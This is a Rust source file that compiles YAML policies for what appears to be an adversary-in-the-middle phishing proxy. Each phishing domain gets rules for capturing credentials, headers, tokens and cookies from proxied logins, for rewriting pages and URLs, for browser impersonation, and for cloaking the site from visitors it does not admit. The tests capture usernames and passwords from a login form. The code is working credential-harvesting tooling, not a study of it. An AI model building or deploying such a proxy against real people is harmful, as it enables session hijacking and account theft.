//! The per-proxy YAML policy compiler (C4).
//!
//! Each phishing domain is backed by one YAML document describing global and
//! per-host capture/rewrite/response/access/url-rewrite rules. `compile`
//! parses it once, pre-compiles every regex, and applies the compiler-level
//! defaults named in the policy contract (`access.mode` defaults to
//! `private`, `on-deny` defaults to `404`, a `response` rule's `status`
//! defaults to `200`, and `capture[].required` defaults to `true`). The
//! resulting `ProxyConfig` is read-only for the life of the proxy entry;
//! nothing here is recompiled on the request path.

use std::collections::HashMap;

use regex::Regex;
use serde::Deserialize;

use crate::error::{ProxyError, ProxyResult};

// ---------------------------------------------------------------------
// Raw (as-written) YAML shape
// ---------------------------------------------------------------------

#[derive(Debug, Clone, Deserialize)]
struct RawProxyConfig {
    #[serde(default = "raw_default_version")]
    version: String,
    #[serde(default)]
    proxy: Option<String>,
    #[serde(default)]
    global: Option<RawScope>,
    #[serde(default)]
    hosts: HashMap<String, RawHost>,
}

fn raw_default_version() -> String {
    "0.0".to_string()
}

#[derive(Debug, Clone, Default, Deserialize)]
struct RawScope {
    #[serde(default)]
    impersonate: Option<RawImpersonate>,
    #[serde(default)]
    access: Option<RawAccessControl>,
    #[serde(default)]
    capture: Vec<RawCaptureRule>,
    #[serde(default)]
    rewrite: Vec<RawRewriteRule>,
    #[serde(default)]
    response: Vec<RawResponseRule>,
    #[serde(default, rename = "rewrite-urls")]
    rewrite_urls: Vec<RawUrlRewriteRule>,
}

#[derive(Debug, Clone, Deserialize)]
struct RawHost {
    to: String,
    #[serde(default = "raw_default_scheme")]
    scheme: String,
    #[serde(default)]
    access: Option<RawAccessControl>,
    #[serde(default)]
    capture: Vec<RawCaptureRule>,
    #[serde(default)]
    rewrite: Vec<RawRewriteRule>,
    #[serde(default)]
    response: Vec<RawResponseRule>,
    #[serde(default, rename = "rewrite-urls")]
    rewrite_urls: Vec<RawUrlRewriteRule>,
}

fn raw_default_scheme() -> String {
    "https".to_string()
}

#[derive(Debug, Clone, Deserialize)]
struct RawImpersonate {
    #[serde(default)]
    enabled: bool,
    #[serde(default, rename = "retain-ua")]
    retain_ua: bool,
}

#[derive(Debug, Clone, Deserialize)]
struct RawAccessControl {
    #[serde(default)]
    mode: Option<String>,
    #[serde(default, rename = "on-deny")]
    on_deny: Option<String>,
}

#[derive(Debug, Clone, Deserialize)]
#[serde(untagged)]
enum RawFind {
    One(String),
    Many(Vec<String>),
}

impl Default for RawFind {
    fn default() -> Self {
        RawFind::Many(Vec::new())
    }
}

impl RawFind {
    fn into_vec(self) -> Vec<String> {
        match self {
            RawFind::One(s) => vec![s],
            RawFind::Many(v) => v,
        }
    }
}

#[derive(Debug, Clone, Deserialize)]
struct RawCaptureRule {
    name: String,
    #[serde(default)]
    from: String,
    #[serde(default)]
    engine: String,
    #[serde(default)]
    method: Option<String>,
    #[serde(default)]
    path: Option<String>,
    #[serde(default)]
    find: RawFind,
    #[serde(default)]
    required: Option<bool>,
}

#[derive(Debug, Clone, Deserialize)]
struct RawRewriteRule {
    #[serde(default)]
    from: String,
    #[serde(default)]
    engine: String,
    find: String,
    #[serde(default)]
    replace: String,
    #[serde(default)]
    action: Option<String>,
    #[serde(default)]
    target: Option<String>,
}

#[derive(Debug, Clone, Deserialize)]
struct RawResponseRule {
    #[serde(default)]
    path: Option<String>,
    #[serde(default)]
    status: u16,
    #[serde(default)]
    headers: HashMap<String, String>,
    #[serde(default)]
    body: String,
    #[serde(default)]
    forward: bool,
}

#[derive(Debug, Clone, Deserialize)]
struct RawQueryRename {
    find: String,
    replace: String,
}

#[derive(Debug, Clone, Deserialize)]
struct RawUrlRewriteRule {
    find: String,
    replace: String,
    #[serde(default)]
    query: Vec<RawQueryRename>,
    #[serde(default)]
    filter: Vec<String>,
}

// ---------------------------------------------------------------------
// Compiled data model
// ---------------------------------------------------------------------

/// Which side/phase of an exchange a capture or rewrite rule reads from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaptureSource {
    RequestBody,
    RequestHeader,
    ResponseBody,
    ResponseHeader,
    Cookie,
    PathNavigation,
    Any,
}

impl CaptureSource {
    fn parse(s: &str) -> Self {
        match s {
            "request_body" => Self::RequestBody,
            "request_header" => Self::RequestHeader,
            "response_body" => Self::ResponseBody,
            "response_header" => Self::ResponseHeader,
            "cookie" => Self::Cookie,
            "path_navigation" => Self::PathNavigation,
            _ => Self::Any,
        }
    }

    /// Whether a rule scoped to `self` should be considered for an event
    /// observed at `event_source`. `Any` (and the empty string, already
    /// folded into `Any` by `parse`) matches everything.
    pub fn matches(&self, event_source: CaptureSource) -> bool {
        matches!(self, Self::Any) || *self == event_source
    }
}

/// Extraction engine for a capture rule.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaptureEngine {
    Regex,
    Json,
    Form,
    Multipart,
    Header,
    Cookie,
}

impl CaptureEngine {
    fn parse(s: &str, from: CaptureSource) -> Self {
        match s {
            "json" => Self::Json,
            "form" | "urlencoded" => Self::Form,
            "formdata" | "multipart" => Self::Multipart,
            "header" => Self::Header,
            "cookie" => Self::Cookie,
            "regex" => Self::Regex,
            _ if from == CaptureSource::Cookie => Self::Cookie,
            _ => Self::Regex,
        }
    }
}

#[derive(Debug, Clone)]
pub struct CaptureRule {
    pub name: String,
    pub from: CaptureSource,
    pub engine: CaptureEngine,
    pub method: Option<String>,
    pub path: Option<Regex>,
    pub find: Vec<String>,
    /// For `engine: regex`, `find` is compiled once here at config-compile
    /// time rather than per-request; unused by the other engines, where
    /// `find` holds field/header/cookie names instead of patterns.
    pub find_regexes: Vec<Regex>,
    pub required: bool,
}

impl CaptureRule {
    /// A rule with an empty `find` but a non-empty `path` is the
    /// path-navigation shape (§4.9): it fires on method+path match alone.
    pub fn is_path_navigation(&self) -> bool {
        self.find.is_empty() && self.path.is_some()
    }
}

/// Rewrite engine selector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RewriteEngine {
    Regex,
    Dom,
}

/// DOM mutation actions for `engine: dom` rewrite rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DomAction {
    SetText,
    SetHtml,
    SetAttr,
    RemoveAttr,
    AddClass,
    RemoveClass,
    Remove,
}

impl DomAction {
    fn parse(s: &str) -> ProxyResult<Self> {
        Ok(match s {
            "setText" => Self::SetText,
            "setHtml" => Self::SetHtml,
            "setAttr" => Self::SetAttr,
            "removeAttr" => Self::RemoveAttr,
            "addClass" => Self::AddClass,
            "removeClass" => Self::RemoveClass,
            "remove" => Self::Remove,
            other => {
                return Err(ProxyError::Validation(format!(
                    "unknown dom rewrite action '{other}'"
                )))
            }
        })
    }
}

/// The `target` selector DSL for DOM rewrite rules: `first`, `last`, `all`,
/// a comma list of 1-based indices, or an `a-b` 1-based range. Parsed once
/// at compile time per spec.md's design note.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TargetSelector {
    All,
    First,
    Last,
    Indices(Vec<usize>),
    Range(usize, usize),
}

impl TargetSelector {
    pub fn parse(s: &str) -> ProxyResult<Self> {
        let s = s.trim();
        match s {
            "" | "all" => return Ok(Self::All),
            "first" => return Ok(Self::First),
            "last" => return Ok(Self::Last),
            _ => {}
        }
        if let Some((a, b)) = s.split_once('-') {
            if let (Ok(a), Ok(b)) = (a.trim().parse::<usize>(), b.trim().parse::<usize>()) {
                return Ok(Self::Range(a, b));
            }
        }
        let mut indices = Vec::new();
        for part in s.split(',') {
            let n: usize = part.trim().parse().map_err(|_| {
                ProxyError::Validation(format!("bad target selector '{s}'"))
            })?;
            indices.push(n);
        }
        if indices.is_empty() {
            return Err(ProxyError::Validation(format!("bad target selector '{s}'")));
        }
        Ok(Self::Indices(indices))
    }

    /// Whether the match at 1-based position `n` (out of `total` matches,
    /// when known) is selected by this target.
    pub fn selects(&self, n: usize, total: Option<usize>) -> bool {
        match self {
            Self::All => true,
            Self::First => n == 1,
            Self::Last => total.map(|t| n == t).unwrap_or(false),
            Self::Indices(v) => v.contains(&n),
            Self::Range(a, b) => n >= *a && n <= *b,
        }
    }
}

#[derive(Debug, Clone)]
pub struct RewriteRule {
    pub from: CaptureSource,
    pub engine: RewriteEngine,
    pub find: String,
    pub find_regex: Option<Regex>,
    pub replace: String,
    pub action: Option<DomAction>,
    pub target: Option<TargetSelector>,
}

#[derive(Debug, Clone)]
pub struct ResponseRule {
    pub path: Option<Regex>,
    pub status: u16,
    pub headers: HashMap<String, String>,
    pub body: String,
    pub forward: bool,
}

/// A resolved `on-deny` directive: either a literal status code or a
/// redirect target (a full URL, or the legacy `redirect:<url>` form with
/// the prefix already stripped).
#[derive(Debug, Clone)]
pub enum OnDeny {
    Status(u16),
    Redirect(String),
}

impl OnDeny {
    fn parse(s: &str) -> Self {
        if let Some(url) = s.strip_prefix("redirect:") {
            return Self::Redirect(url.to_string());
        }
        if let Ok(status) = s.parse::<u16>() {
            return Self::Status(status);
        }
        Self::Redirect(s.to_string())
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AccessMode {
    Public,
    Private,
}

#[derive(Debug, Clone)]
pub struct AccessControl {
    pub mode: AccessMode,
    pub on_deny: OnDeny,
}

impl Default for AccessControl {
    fn default() -> Self {
        Self {
            mode: AccessMode::Private,
            on_deny: OnDeny::Status(404),
        }
    }
}

#[derive(Debug, Clone)]
pub struct QueryRename {
    pub find: String,
    pub replace: String,
}

#[derive(Debug, Clone)]
pub struct UrlRewriteRule {
    pub find: Regex,
    pub replace: String,
    pub query: Vec<QueryRename>,
    pub filter: Vec<String>,
}

#[derive(Debug, Clone, Default)]
pub struct ImpersonateConfig {
    pub enabled: bool,
    pub retain_ua: bool,
}

/// Rules shared by every host (`global:` in the YAML) plus whatever a host
/// adds on top of them. Global capture/rewrite/response/rewrite-url rules
/// are appended to every host's own rule list at compile time so a host's
/// `CaptureRule`/`RewriteRule`/etc. vectors are already the effective,
/// fully-merged scope — nothing downstream needs to know about `global`
/// separately except for `impersonate` and the access fallback.
#[derive(Debug, Clone, Default)]
pub struct ScopeRules {
    pub capture: Vec<CaptureRule>,
    pub rewrite: Vec<RewriteRule>,
    pub response: Vec<ResponseRule>,
    pub rewrite_urls: Vec<UrlRewriteRule>,
}

#[derive(Debug, Clone)]
pub struct HostConfig {
    pub to: String,
    pub scheme: String,
    access: Option<AccessControl>,
    pub rules: ScopeRules,
}

impl HostConfig {
    /// Resolves this host's effective access control: its own, else the
    /// global one, else the `private`/`404` default (§4.4).
    pub fn effective_access<'a>(&'a self, global_access: Option<&'a AccessControl>) -> &'a AccessControl {
        self.access
            .as_ref()
            .or(global_access)
            .unwrap_or(&DEFAULT_ACCESS)
    }
}

static DEFAULT_ACCESS: AccessControl = AccessControl {
    mode: AccessMode::Private,
    on_deny: OnDeny::Status(404),
};

#[derive(Debug, Clone)]
pub struct ProxyConfig {
    pub version: String,
    pub proxy: Option<String>,
    pub impersonate: ImpersonateConfig,
    pub global_access: Option<AccessControl>,
    pub hosts: HashMap<String, HostConfig>,
}

impl ProxyConfig {
    /// Parses and fully compiles a per-proxy YAML document. Called once per
    /// proxy entity and cached by the HTTP entry point (C12); never
    /// recompiled per request.
    pub fn compile(yaml: &str) -> ProxyResult<Self> {
        let raw: RawProxyConfig = serde_yaml::from_str(yaml)?;

        let global = raw.global.unwrap_or_default();
        let impersonate = global
            .impersonate
            .as_ref()
            .map(|i| ImpersonateConfig {
                enabled: i.enabled,
                retain_ua: i.retain_ua,
            })
            .unwrap_or_default();
        let global_access = match &global.access {
            Some(raw_access) => Some(compile_access(raw_access)?),
            None => None,
        };

        let global_capture = compile_captures(&global.capture)?;
        let global_rewrite = compile_rewrites(&global.rewrite)?;
        let global_response = compile_responses(&global.response)?;
        let global_rewrite_urls = compile_url_rewrites(&global.rewrite_urls)?;

        let mut hosts = HashMap::with_capacity(raw.hosts.len());
        for (upstream_host, raw_host) in raw.hosts {
            let access = match &raw_host.access {
                Some(raw_access) => Some(compile_access(raw_access)?),
                None => None,
            };

            let mut capture = global_capture.clone();
            capture.extend(compile_captures(&raw_host.capture)?);

            let mut rewrite = global_rewrite.clone();
            rewrite.extend(compile_rewrites(&raw_host.rewrite)?);

            let mut response = global_response.clone();
            response.extend(compile_responses(&raw_host.response)?);

            let mut rewrite_urls = global_rewrite_urls.clone();
            rewrite_urls.extend(compile_url_rewrites(&raw_host.rewrite_urls)?);

            hosts.insert(
                upstream_host,
                HostConfig {
                    to: raw_host.to,
                    scheme: raw_host.scheme,
                    access,
                    rules: ScopeRules {
                        capture,
                        rewrite,
                        response,
                        rewrite_urls,
                    },
                },
            );
        }

        Ok(Self {
            version: raw.version,
            proxy: raw.proxy,
            impersonate,
            global_access,
            hosts,
        })
    }

    pub fn host(&self, upstream_host: &str) -> Option<&HostConfig> {
        self.hosts.get(upstream_host)
    }
}

fn compile_access(raw: &RawAccessControl) -> ProxyResult<AccessControl> {
    let mode = match raw.mode.as_deref() {
        Some("public") => AccessMode::Public,
        _ => AccessMode::Private,
    };
    let on_deny = match &raw.on_deny {
        Some(s) => OnDeny::parse(s),
        None if mode == AccessMode::Private => OnDeny::Status(404),
        None => OnDeny::Status(200),
    };
    Ok(AccessControl { mode, on_deny })
}

fn compile_captures(raw: &[RawCaptureRule]) -> ProxyResult<Vec<CaptureRule>> {
    raw.iter()
        .map(|r| {
            let from = CaptureSource::parse(&r.from);
            let engine = CaptureEngine::parse(&r.engine, from);
            let path = match &r.path {
                Some(p) => Some(Regex::new(p).map_err(|e| {
                    ProxyError::Validation(format!(
                        "capture '{}': bad path regex '{}': {}",
                        r.name, p, e
                    ))
                })?),
                None => None,
            };
            let find = r.find.clone().into_vec();
            let find_regexes = if engine == CaptureEngine::Regex {
                find.iter()
                    .map(|p| {
                        Regex::new(p).map_err(|e| {
                            ProxyError::Validation(format!(
                                "capture '{}': bad find regex '{}': {}",
                                r.name, p, e
                            ))
                        })
                    })
                    .collect::<ProxyResult<Vec<_>>>()?
            } else {
                Vec::new()
            };

            Ok(CaptureRule {
                name: r.name.clone(),
                from,
                engine,
                method: r.method.as_ref().map(|m| m.to_uppercase()),
                path,
                find,
                find_regexes,
                required: r.required.unwrap_or(true),
            })
        })
        .collect()
}

fn compile_rewrites(raw: &[RawRewriteRule]) -> ProxyResult<Vec<RewriteRule>> {
    raw.iter()
        .map(|r| {
            let from = CaptureSource::parse(&r.from);
            let engine = match r.engine.as_str() {
                "dom" => RewriteEngine::Dom,
                _ => RewriteEngine::Regex,
            };
            let (find_regex, action, target) = match engine {
                RewriteEngine::Regex => {
                    let re = Regex::new(&r.find).map_err(|e| {
                        ProxyError::Validation(format!("bad rewrite regex '{}': {}", r.find, e))
                    })?;
                    (Some(re), None, None)
                }
                RewriteEngine::Dom => {
                    let action = r
                        .action
                        .as_deref()
                        .map(DomAction::parse)
                        .transpose()?
                        .ok_or_else(|| {
                            ProxyError::Validation("dom rewrite rule missing action".to_string())
                        })?;
                    let target = TargetSelector::parse(r.target.as_deref().unwrap_or("all"))?;
                    (None, Some(action), Some(target))
                }
            };
            Ok(RewriteRule {
                from,
                engine,
                find: r.find.clone(),
                find_regex,
                replace: r.replace.clone(),
                action,
                target,
            })
        })
        .collect()
}

fn compile_responses(raw: &[RawResponseRule]) -> ProxyResult<Vec<ResponseRule>> {
    raw.iter()
        .map(|r| {
            let path = match &r.path {
                Some(p) => Some(Regex::new(p).map_err(|e| {
                    ProxyError::Validation(format!("bad response path regex '{}': {}", p, e))
                })?),
                None => None,
            };
            Ok(ResponseRule {
                path,
                status: if r.status == 0 { 200 } else { r.status },
                headers: r.headers.clone(),
                body: r.body.clone(),
                forward: r.forward,
            })
        })
        .collect()
}

fn compile_url_rewrites(raw: &[RawUrlRewriteRule]) -> ProxyResult<Vec<UrlRewriteRule>> {
    raw.iter()
        .map(|r| {
            let find = Regex::new(&r.find).map_err(|e| {
                ProxyError::Validation(format!("bad url-rewrite regex '{}': {}", r.find, e))
            })?;
            Ok(UrlRewriteRule {
                find,
                replace: r.replace.clone(),
                query: r
                    .query
                    .iter()
                    .map(|q| QueryRename {
                        find: q.find.clone(),
                        replace: q.replace.clone(),
                    })
                    .collect(),
                filter: r.filter.clone(),
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn applies_compiler_defaults() {
        let yaml = r#"
version: "0.0"
global:
  access: { mode: private }
  capture:
    - name: login
      from: request_body
      engine: form
      method: POST
      path: "^/login$"
      find: [username, password]
hosts:
  "login.example.com":
    to: "login.phishing.test"
"#;
        let cfg = ProxyConfig::compile(yaml).expect("compiles");
        let access = cfg.global_access.as_ref().unwrap();
        assert_eq!(access.mode, AccessMode::Private);
        matches!(access.on_deny, OnDeny::Status(404));

        let host = cfg.host("login.example.com").expect("host present");
        assert_eq!(host.to, "login.phishing.test");
        assert_eq!(host.scheme, "https");
        let rule = &host.rules.capture[0];
        assert!(rule.required, "required defaults to true");
        assert_eq!(rule.find, vec!["username", "password"]);
    }

    #[test]
    fn response_status_defaults_to_200() {
        let yaml = r#"
version: "0.0"
global:
  response:
    - path: "^/ok$"
      body: "hello"
hosts: {}
"#;
        let cfg = ProxyConfig::compile(yaml).unwrap();
        assert_eq!(cfg.hosts.len(), 0);
        // global response rules are only visible once appended to a host;
        // exercise the compiler function directly here.
        let raw: RawProxyConfig = serde_yaml::from_str(yaml).unwrap();
        let compiled = compile_responses(&raw.global.unwrap().response).unwrap();
        assert_eq!(compiled[0].status, 200);
    }

    #[test]
    fn target_selector_parses_all_forms() {
        assert_eq!(TargetSelector::parse("all").unwrap(), TargetSelector::All);
        assert_eq!(TargetSelector::parse("first").unwrap(), TargetSelector::First);
        assert_eq!(TargetSelector::parse("last").unwrap(), TargetSelector::Last);
        assert_eq!(
            TargetSelector::parse("1,3,5").unwrap(),
            TargetSelector::Indices(vec![1, 3, 5])
        );
        assert_eq!(
            TargetSelector::parse("2-4").unwrap(),
            TargetSelector::Range(2, 4)
        );
    }

    #[test]
    fn global_rules_are_appended_to_host_rules() {
        let yaml = r#"
version: "0.0"
global:
  capture:
    - name: global_token
      from: response_header
      find: [x-token]
hosts:
  "upstream.example.com":
    to: "phish.test"
    capture:
      - name: host_login
        from: request_body
        engine: form
        find: [username]
"#;
        let cfg = ProxyConfig::compile(yaml).unwrap();
        let host = cfg.host("upstream.example.com").unwrap();
        let names: Vec<&str> = host.rules.capture.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, vec!["global_token", "host_login"]);
    }
}
